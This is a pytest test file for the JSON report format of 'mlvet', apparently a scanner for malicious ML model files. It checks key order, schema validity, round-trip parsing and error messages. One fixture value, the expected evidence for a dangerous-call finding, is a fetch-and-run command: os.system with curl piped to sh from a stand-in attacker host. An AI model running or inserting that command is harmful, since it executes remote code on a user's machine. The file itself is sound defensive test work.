"""The JSON renderer: exact shape, key order, schema, and the report_from_json round trip."""

from __future__ import annotations

import copy
import json
from datetime import datetime, timedelta, timezone
from typing import Any

import jsonschema
import pytest
from test_report_common import (
    HOSTILE_PATH,
    SHA,
    UNDECODABLE_PATH,
    UNICODE_PATH,
    clean_report,
    render,
    sample_report,
)

from mlvet.model import SCHEMA_VERSION, FileResult, ScanReport, Status
from mlvet.report import report_from_json, report_to_dict
from mlvet.report.jsonfmt import ReportFormatError, format_timestamp, json_schema

TOP_KEYS = [
    "schema_version", "tool", "started_at", "finished_at", "policy_sources", "policy_warnings", "results", "summary",
]
RESULT_KEYS = [
    "path",
    "format",
    "status",
    "severity",
    "size",
    "sha256",
    "skip_reason",
    "errors",
    "formats_seen",
    "huggingface",
    "findings",
    "suppressed",
]
FINDING_KEYS = [
    "rule_id",
    "rule_name",
    "severity",
    "confidence",
    "message",
    "location",
    "evidence",
    "cwe",
    "fingerprint",
    "policy",
]
LOCATION_KEYS = ["path", "members", "offset", "opcode_index"]
SUMMARY_KEYS = ["files", "scanned", "skipped", "errors", "findings", "by_severity", "max_severity", "suppressed"]


@pytest.fixture(scope="module")
def text() -> str:
    return render("json", sample_report())


@pytest.fixture(scope="module")
def doc(text: str) -> dict[str, Any]:
    parsed: dict[str, Any] = json.loads(text)
    return parsed


def test_output_is_one_ascii_json_document(text: str) -> None:
    assert text.endswith("}\n")
    assert text.isascii()  # survives any console encoding; non-ASCII is \u-escaped
    json.loads(text)


def test_key_order_is_stable(doc: dict[str, Any]) -> None:
    assert list(doc) == TOP_KEYS
    assert list(doc["tool"]) == ["name", "version"]
    for result in doc["results"]:
        assert list(result) == RESULT_KEYS
        for finding in result["findings"]:
            assert list(finding) == FINDING_KEYS
            assert list(finding["location"]) == LOCATION_KEYS
    assert list(doc["summary"]) == SUMMARY_KEYS
    assert list(doc["summary"]["by_severity"]) == ["info", "low", "medium", "high", "critical"]


def test_values(doc: dict[str, Any]) -> None:
    assert doc["schema_version"] == SCHEMA_VERSION
    assert doc["tool"]["name"] == "mlvet"
    assert doc["started_at"] == "2025-01-02T03:04:05.123456Z"
    assert doc["finished_at"] == "2025-01-02T03:04:07Z"
    assert doc["policy_sources"] == ["builtin", "pyproject.toml"]

    evil = doc["results"][0]
    assert evil["path"] == "models/evil.pt"
    assert (evil["status"], evil["severity"], evil["size"], evil["sha256"]) == (
        "scanned",
        "critical",
        123456,
        SHA,
    )
    assert evil["formats_seen"] == ["zip", "pickle"]
    first = evil["findings"][0]
    assert first["rule_id"] == "PKL100"
    assert first["rule_name"] == "dangerous-call"
    assert (first["severity"], first["confidence"], first["cwe"]) == ("critical", "high", 502)
    assert first["location"] == {
        "path": "models/evil.pt",
        "members": ["archive/data.pkl"],
        "offset": 1234,
        "opcode_index": 17,
    }
    assert first["evidence"] == "os.system('curl https://evil.example/x | sh')"
    assert len(first["fingerprint"]) == 32

    paths = [r["path"] for r in doc["results"]]
    assert HOSTILE_PATH in paths and UNICODE_PATH in paths and UNDECODABLE_PATH in paths  # data, unaltered
    unknown = next(f for r in doc["results"] for f in r["findings"] if f["rule_id"] == "XYZ999")
    assert unknown["rule_name"] is None
    skipped = next(r for r in doc["results"] if r["status"] == "skipped")
    assert (skipped["skip_reason"], skipped["severity"], skipped["findings"]) == (
        "not a model file",
        "none",
        [],
    )
    broken = next(r for r in doc["results"] if r["path"] == "broken.7z")
    assert (broken["status"], broken["errors"]) == ("error", ["py7zr is not installed"])

    assert doc["summary"] == {
        "files": 9,
        "scanned": 6,
        "skipped": 1,
        "errors": 2,
        "findings": 9,
        "by_severity": {"info": 1, "low": 2, "medium": 3, "high": 1, "critical": 2},
        "max_severity": "critical",
        "suppressed": 0,
    }


def test_output_matches_the_published_json_schema(doc: dict[str, Any]) -> None:
    schema = json_schema()
    validator_cls = jsonschema.validators.validator_for(schema)
    validator_cls.check_schema(schema)
    validator = validator_cls(schema)
    for report in (
        doc,
        json.loads(render("json", clean_report(2))),
        json.loads(render("json", sample_report(()))),
    ):
        errors = sorted(validator.iter_errors(report), key=str)
        assert not errors, errors[0]
    broken = copy.deepcopy(doc)
    broken["results"][0]["status"] = "fine"
    assert list(validator.iter_errors(broken))


def test_color_and_verbose_do_not_change_machine_output(text: str) -> None:
    assert render("json", sample_report(), color=True, verbose=True) == text


# ---------------------------------------------------------------------------------------- round trip


@pytest.mark.parametrize(
    "report", [sample_report(), clean_report(3), sample_report(())], ids=["sample", "clean", "empty"]
)
def test_round_trip(report: ScanReport) -> None:
    text = render("json", report)
    assert report_from_json(json.loads(text)) == report
    assert report_from_json(text) == report
    assert report_from_json(text.encode()) == report
    # And the rebuilt report renders to the identical document.
    assert render("json", report_from_json(text)) == text


def test_round_trip_keeps_fingerprints_and_summary() -> None:
    report = sample_report()
    rebuilt = report_from_json(report_to_dict(report))
    assert [f.fingerprint for f in rebuilt.findings] == [f.fingerprint for f in report.findings]
    assert rebuilt.summary() == report.summary()


def test_derived_values_are_recomputed_not_trusted(doc: dict[str, Any]) -> None:
    edited = copy.deepcopy(doc)
    edited["summary"]["findings"] = 0
    edited["summary"]["max_severity"] = "none"
    edited["results"][0]["severity"] = "none"
    edited["results"][0]["findings"][0]["fingerprint"] = "0" * 32
    assert report_from_json(edited) == sample_report()


def test_timestamps() -> None:
    naive = datetime(2025, 1, 1, 12, 0, 0)  # taken as UTC, not local time
    assert format_timestamp(naive) == "2025-01-01T12:00:00Z"
    plus_two = datetime(2025, 1, 1, 14, 0, 0, tzinfo=timezone(timedelta(hours=2)))
    assert format_timestamp(plus_two) == "2025-01-01T12:00:00Z"
    doc = report_to_dict(sample_report())
    doc["started_at"] = "2025-01-02T03:04:05.123456+00:00"
    assert report_from_json(doc).started_at == sample_report().started_at
    doc["started_at"] = "2025-01-02T05:04:05.123456+02:00"
    assert report_from_json(doc).started_at == sample_report().started_at


def test_minor_schema_versions_and_extra_keys_are_accepted(doc: dict[str, Any]) -> None:
    newer = copy.deepcopy(doc)
    newer["schema_version"] = "1.99"
    newer["future_key"] = {"anything": True}
    newer["results"][0]["future_key"] = 1
    assert report_from_json(newer).results == sample_report().results


def _broken(doc: dict[str, Any], edit: str) -> dict[str, Any]:
    broken = copy.deepcopy(doc)
    if edit == "missing-results":
        del broken["results"]
    elif edit == "major-version":
        broken["schema_version"] = "2.0"
    elif edit == "other-tool":
        broken["tool"]["name"] = "picklescan"
    elif edit == "bad-status":
        broken["results"][1]["status"] = "clean"
    elif edit == "bad-severity":
        broken["results"][0]["findings"][2]["severity"] = "catastrophic"
    elif edit == "bad-offset":
        broken["results"][0]["findings"][0]["location"]["offset"] = -1
    elif edit == "bool-size":
        broken["results"][0]["size"] = True
    elif edit == "member-not-string":
        broken["results"][0]["findings"][0]["location"]["members"] = [1]
    elif edit == "bad-time":
        broken["finished_at"] = "yesterday"
    elif edit == "results-not-list":
        broken["results"] = {}
    elif edit == "bad-confidence":
        broken["results"][0]["findings"][0]["confidence"] = "certain"
    return broken


@pytest.mark.parametrize(
    ("edit", "where"),
    [
        ("missing-results", r"\$: missing key 'results'"),
        ("major-version", "schema_version '2.0'"),
        ("other-tool", "picklescan"),
        ("bad-status", r"\$\.results\[1\]\.status: unknown status 'clean'"),
        ("bad-severity", r"\$\.results\[0\]\.findings\[2\]\.severity: unknown severity"),
        ("bad-offset", r"\$\.results\[0\]\.findings\[0\]\.location\.offset"),
        ("bool-size", r"\$\.results\[0\]\.size"),
        ("member-not-string", r"location\.members\[0\]"),
        ("bad-time", r"\$\.finished_at: not an ISO-8601 timestamp"),
        ("results-not-list", r"\$\.results: expected an array"),
        ("bad-confidence", "unknown confidence 'certain'"),
    ],
)
def test_malformed_documents_name_the_offending_key(doc: dict[str, Any], edit: str, where: str) -> None:
    with pytest.raises(ReportFormatError, match=where):
        report_from_json(_broken(doc, edit))


def test_not_json_or_not_an_object() -> None:
    with pytest.raises(ValueError, match="not valid JSON"):
        report_from_json("{nope")
    with pytest.raises(ValueError, match="expected an object"):
        report_from_json("[]")


def test_optional_fields_default() -> None:
    minimal = {
        "schema_version": "1.0",
        "tool": {"name": "mlvet", "version": "0.0.1"},
        "started_at": "2025-01-01T00:00:00Z",
        "finished_at": "2025-01-01T00:00:01Z",
        "results": [{"path": "a.pkl", "format": "pickle", "status": "scanned"}],
    }
    report = report_from_json(minimal)
    assert report.results == (FileResult("a.pkl", "pickle", Status.SCANNED),)
    assert report.policy_sources == ()
